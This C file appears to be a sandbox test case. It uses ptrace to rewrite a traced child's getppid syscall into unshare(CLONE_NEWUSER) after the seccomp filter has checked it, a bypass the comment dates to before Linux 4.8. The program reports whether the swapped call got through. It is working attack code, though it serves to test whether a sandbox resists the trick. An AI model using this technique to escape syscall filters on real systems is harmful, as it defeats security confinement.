/*
 * A tracer exchanges a harmless call for a forbidden one after the filter has looked (so it was before Linux 4.8):
 * the child asks for its parent's id and gets a user namespace.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include "attack.h"

static void harmless(void) {
  ptrace(PTRACE_TRACEME, 0, 0, 0);
  raise(SIGSTOP);
  errno = 0;
  long result = syscall(SYS_getppid, CLONE_NEWUSER);
  if (result == 0)
    through("unshare in the place of getppid");
  else
    stopped("the exchanged call gave %ld (%s)", result, strerror(errno));
  _exit(0);
}

int main(void) {
#ifdef __x86_64__
  pid_t child = fork();
  if (child == 0) harmless();
  int status;
  waitpid(child, &status, 0);
  ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL);
  while (ptrace(PTRACE_SYSCALL, child, 0, 0) == 0 && waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
    struct user_regs_struct regs;
    if (ptrace(PTRACE_GETREGS, child, 0, &regs) < 0 || regs.orig_rax != SYS_getppid) continue;
    regs.orig_rax = SYS_unshare;
    ptrace(PTRACE_SETREGS, child, 0, &regs);
  }
#else
  stopped("written for x86-64");
#endif
  return 0;
}
